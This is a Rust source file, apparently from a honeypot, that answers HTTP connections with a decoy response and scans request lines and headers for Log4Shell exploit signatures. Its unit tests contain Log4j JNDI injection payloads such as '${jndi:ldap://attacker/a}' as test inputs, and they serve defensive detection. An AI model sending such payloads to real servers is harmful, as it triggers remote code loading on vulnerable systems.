//! Per-connection capture-and-inspect orchestration.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use log::{debug, info};
use tokio::io::{AsyncRead, AsyncWrite, AsyncWriteExt, BufReader};
use uuid::Uuid;

use super::request::{self, RequestHead};
use crate::configuration::types::ListenerConfig;
use crate::detection::detector::ExploitDetector;
use crate::event_log::sink::EventSink;

/// Handles one accepted connection end to end: answer with the fixed decoy
/// response, record the request verbatim, and scan every inspectable surface
/// for the exploitation signature.
///
/// One recorder exists per listener and is shared by that listener's
/// connection tasks; all state lives in shared `Arc` handles, so handling is
/// isolated per connection.
#[derive(Clone)]
pub struct RequestRecorder {
    sink: Arc<EventSink>,
    detector: Arc<ExploitDetector>,
    listener: ListenerConfig,
    read_timeout: Duration,
}

impl RequestRecorder {
    pub fn new(
        sink: Arc<EventSink>,
        detector: Arc<ExploitDetector>,
        listener: ListenerConfig,
        read_timeout: Duration,
    ) -> Self {
        Self {
            sink,
            detector,
            listener,
            read_timeout,
        }
    }

    /// Process one connection. Any method, any path.
    ///
    /// Errors never escape: transport failures abort this connection's
    /// handling only, and everything else becomes a structured event. The
    /// decoy response is identical whether or not a signature is found, so
    /// the prober learns nothing from it.
    pub async fn handle<S>(&self, stream: S, client_addr: SocketAddr)
    where
        S: AsyncRead + AsyncWrite + Unpin,
    {
        let correlation_id = Uuid::new_v4();
        let (read_half, mut write_half) = tokio::io::split(stream);
        let mut reader = BufReader::new(read_half);

        let head = match request::read_head(&mut reader, self.read_timeout).await {
            Ok(head) => head,
            Err(e) => {
                debug!("[{}] dropping connection from {}: {}", correlation_id, client_addr, e);
                return;
            }
        };

        // The decoy response goes out before any sink write so that slow
        // logging never delays it.
        if let Err(e) = self.write_response(&mut write_half, correlation_id).await {
            debug!("[{}] response to {} failed: {}", correlation_id, client_addr, e);
        }

        let raw_body = match self.read_declared_body(&mut reader, &head, correlation_id).await {
            Ok(body) => body,
            // Transport-error outcome: nothing promised was delivered, so
            // nothing gets captured for this connection.
            Err(()) => return,
        };

        let body = match raw_body {
            None => None,
            Some(bytes) => match String::from_utf8(bytes) {
                Ok(text) => Some(text),
                Err(e) => {
                    self.sink
                        .log_exception(format!("Failed to decode request body: {}", e))
                        .await;
                    None
                }
            },
        };

        info!(
            "[{}] {} {:?} ({} header(s))",
            correlation_id,
            client_addr,
            head.request_line,
            head.headers.len()
        );

        self.sink
            .log_request(
                correlation_id,
                self.listener.port,
                client_addr,
                head.request_line.clone(),
                head.headers.clone(),
                body,
            )
            .await;

        self.find_exploit(
            correlation_id,
            ExploitDetector::REQUEST_LOCATION.to_string(),
            &head.request_line,
            client_addr,
        )
        .await;
        for (name, value) in head.headers.iter() {
            self.find_exploit(
                correlation_id,
                ExploitDetector::header_location(name),
                value,
                client_addr,
            )
            .await;
        }
    }

    /// Read the body the head declared, if any. `Err(())` means the
    /// connection's handling must be aborted.
    async fn read_declared_body<R>(
        &self,
        reader: &mut R,
        head: &RequestHead,
        correlation_id: Uuid,
    ) -> Result<Option<Vec<u8>>, ()>
    where
        R: tokio::io::AsyncBufRead + Unpin,
    {
        let length = match head.content_length() {
            Ok(None) => return Ok(None),
            Ok(Some(length)) => length,
            Err(e) => {
                debug!("[{}] aborting: {}", correlation_id, e);
                return Err(());
            }
        };
        match request::read_body(reader, length, self.read_timeout).await {
            Ok(bytes) => Ok(Some(bytes)),
            Err(e) => {
                debug!("[{}] aborting: {}", correlation_id, e);
                Err(())
            }
        }
    }

    async fn find_exploit(
        &self,
        correlation_id: Uuid,
        location: String,
        content: &str,
        client_addr: SocketAddr,
    ) {
        if let Some(m) = self.detector.scan(content) {
            info!(
                "[{}] exploit attempt from {} at {}: {}",
                correlation_id, client_addr, location, m.payload
            );
            self.sink
                .log_exploit(correlation_id, location, m.payload, client_addr)
                .await;
        }
    }

    async fn write_response<W>(&self, writer: &mut W, correlation_id: Uuid) -> std::io::Result<()>
    where
        W: AsyncWrite + Unpin,
    {
        let body = format!("{{ \"status\": \"ok\", \"id\": \"{}\" }}", correlation_id);
        // `text/json` is what the emulated endpoint really advertises.
        let response = format!(
            "HTTP/1.1 200 OK\r\nServer: {}\r\nContent-Type: text/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{}",
            self.listener.server_header,
            body.len(),
            body
        );
        writer.write_all(response.as_bytes()).await?;
        writer.flush().await
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event_log::remote::RemoteTarget;
    use crate::event_log::types::Event;
    use std::path::Path;
    use tempfile::TempDir;
    use tokio::io::AsyncReadExt;

    const CLIENT: &str = "203.0.113.45:50000";

    async fn recorder(dir: &TempDir, timeout_ms: u64) -> (RequestRecorder, std::path::PathBuf) {
        let path = dir.path().join("dpot.log");
        let sink = Arc::new(
            EventSink::open(&path, RemoteTarget::LocalOnly)
                .await
                .unwrap(),
        );
        let detector = Arc::new(ExploitDetector::new().unwrap());
        let rec = RequestRecorder::new(
            sink,
            detector,
            ListenerConfig::default(),
            Duration::from_millis(timeout_ms),
        );
        (rec, path)
    }

    fn read_events(path: &Path) -> Vec<Event> {
        std::fs::read_to_string(path)
            .unwrap()
            .lines()
            .map(|line| serde_json::from_str(line).unwrap())
            .collect()
    }

    /// Drive one raw request through the recorder over an in-memory duplex
    /// pipe and return the raw response bytes.
    async fn run_request(rec: &RequestRecorder, raw: &[u8]) -> Vec<u8> {
        let (mut client, server) = tokio::io::duplex(64 * 1024);
        client.write_all(raw).await.unwrap();
        let handle = rec.handle(server, CLIENT.parse().unwrap());

        let read_response = async {
            let mut response = Vec::new();
            client.read_to_end(&mut response).await.unwrap();
            response
        };
        let (_, response) = tokio::join!(handle, read_response);
        response
    }

    #[tokio::test]
    async fn exploit_header_produces_request_and_exploit_events() {
        let dir = TempDir::new().unwrap();
        let (rec, path) = recorder(&dir, 1000).await;

        let raw = b"GET / HTTP/1.1\r\nHost: victim\r\nX-Api-Version: ${jndi:ldap://attacker/a}\r\n\r\n";
        let response = run_request(&rec, raw).await;
        let response = String::from_utf8(response).unwrap();
        assert!(response.starts_with("HTTP/1.1 200 OK\r\n"));
        assert!(response.contains("Server: Apache/2.4.1\r\n"));
        assert!(response.contains("Content-Type: text/json\r\n"));

        let events = read_events(&path);
        assert_eq!(events.len(), 2);
        let (request_id, exploit) = match (&events[0], &events[1]) {
            (Event::Request { correlation_id, body, .. }, Event::Exploit { .. }) => {
                assert!(body.is_none());
                (*correlation_id, events[1].clone())
            }
            other => panic!("unexpected events: {:?}", other),
        };
        match exploit {
            Event::Exploit {
                correlation_id,
                location,
                payload,
                client,
                ..
            } => {
                assert_eq!(correlation_id, request_id);
                assert_eq!(location, "header-X-Api-Version");
                assert_eq!(payload, "${jndi:ldap://attacker/a}");
                assert_eq!(client, "203.0.113.45");
            }
            other => panic!("unexpected event: {:?}", other),
        }

        // The response body carries the same correlation id.
        let body = response.split("\r\n\r\n").nth(1).unwrap();
        assert_eq!(
            body,
            format!("{{ \"status\": \"ok\", \"id\": \"{}\" }}", request_id)
        );
    }

    #[tokio::test]
    async fn body_is_captured_but_not_scanned() {
        let dir = TempDir::new().unwrap();
        let (rec, path) = recorder(&dir, 1000).await;

        let raw = b"POST /submit HTTP/1.1\r\nHost: victim\r\nContent-Length: 11\r\n\r\n${env:PATH}";
        run_request(&rec, raw).await;

        let events = read_events(&path);
        assert_eq!(events.len(), 1);
        match &events[0] {
            Event::Request { body, request, .. } => {
                assert_eq!(body.as_deref(), Some("${env:PATH}"));
                assert_eq!(request, "POST /submit HTTP/1.1");
            }
            other => panic!("unexpected event: {:?}", other),
        }
    }

    #[tokio::test]
    async fn exploit_in_request_line_is_tagged_request() {
        let dir = TempDir::new().unwrap();
        let (rec, path) = recorder(&dir, 1000).await;

        let raw = b"GET /?x=${jndi:ldap://x} HTTP/1.1\r\nHost: victim\r\n\r\n";
        run_request(&rec, raw).await;

        let events = read_events(&path);
        assert_eq!(events.len(), 2);
        match &events[1] {
            Event::Exploit { location, payload, .. } => {
                assert_eq!(location, "request");
                assert_eq!(payload, "${jndi:ldap://x}");
            }
            other => panic!("unexpected event: {:?}", other),
        }
    }

    #[tokio::test]
    async fn every_header_is_scanned_even_after_a_match() {
        let dir = TempDir::new().unwrap();
        let (rec, path) = recorder(&dir, 1000).await;

        let raw = b"GET / HTTP/1.1\r\nX-A: ${jndi:ldap://a}\r\nX-B: ${jndi:ldap://b}\r\n\r\n";
        run_request(&rec, raw).await;

        let events = read_events(&path);
        let locations: Vec<_> = events
            .iter()
            .filter_map(|e| match e {
                Event::Exploit { location, .. } => Some(location.as_str()),
                _ => None,
            })
            .collect();
        assert_eq!(locations, ["header-X-A", "header-X-B"]);
    }

    #[tokio::test]
    async fn withheld_body_times_out_without_capture() {
        let dir = TempDir::new().unwrap();
        let (rec, path) = recorder(&dir, 100).await;

        // Claims 100 bytes, sends none, and holds the connection open.
        let (mut client, server) = tokio::io::duplex(64 * 1024);
        client
            .write_all(b"POST / HTTP/1.1\r\nContent-Length: 100\r\n\r\n")
            .await
            .unwrap();

        let result = tokio::time::timeout(
            Duration::from_secs(2),
            rec.handle(server, CLIENT.parse().unwrap()),
        )
        .await;
        assert!(result.is_ok(), "handler hung past its read timeout");

        // Response was already sent; no capture event for the aborted body.
        let mut response = Vec::new();
        client.read_to_end(&mut response).await.unwrap();
        assert!(response.starts_with(b"HTTP/1.1 200 OK"));
        assert!(read_events(&path).is_empty());
    }

    #[tokio::test]
    async fn malformed_content_length_aborts_without_capture() {
        let dir = TempDir::new().unwrap();
        let (rec, path) = recorder(&dir, 1000).await;

        let raw = b"POST / HTTP/1.1\r\nContent-Length: eleven\r\n\r\n";
        let response = run_request(&rec, raw).await;
        assert!(response.starts_with(b"HTTP/1.1 200 OK"));
        assert!(read_events(&path).is_empty());
    }

    #[tokio::test]
    async fn non_utf8_body_yields_exception_and_bodiless_capture() {
        let dir = TempDir::new().unwrap();
        let (rec, path) = recorder(&dir, 1000).await;

        let mut raw = b"POST / HTTP/1.1\r\nContent-Length: 4\r\n\r\n".to_vec();
        raw.extend_from_slice(&[0xff, 0xfe, 0xfd, 0xfc]);
        run_request(&rec, &raw).await;

        let events = read_events(&path);
        assert_eq!(events.len(), 2);
        assert_eq!(events[0].kind(), "exception");
        match &events[1] {
            Event::Request { body, .. } => assert!(body.is_none()),
            other => panic!("unexpected event: {:?}", other),
        }
    }

    #[tokio::test]
    async fn custom_server_header_is_advertised() {
        let dir = TempDir::new().unwrap();
        let path = dir.path().join("dpot.log");
        let sink = Arc::new(
            EventSink::open(&path, RemoteTarget::LocalOnly)
                .await
                .unwrap(),
        );
        let rec = RequestRecorder::new(
            sink,
            Arc::new(ExploitDetector::new().unwrap()),
            ListenerConfig {
                port: 8080,
                server_header: "nginx/1.18.0".into(),
            },
            Duration::from_secs(1),
        );

        let response = run_request(&rec, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n").await;
        let response = String::from_utf8(response).unwrap();
        assert!(response.contains("Server: nginx/1.18.0\r\n"));
    }
}
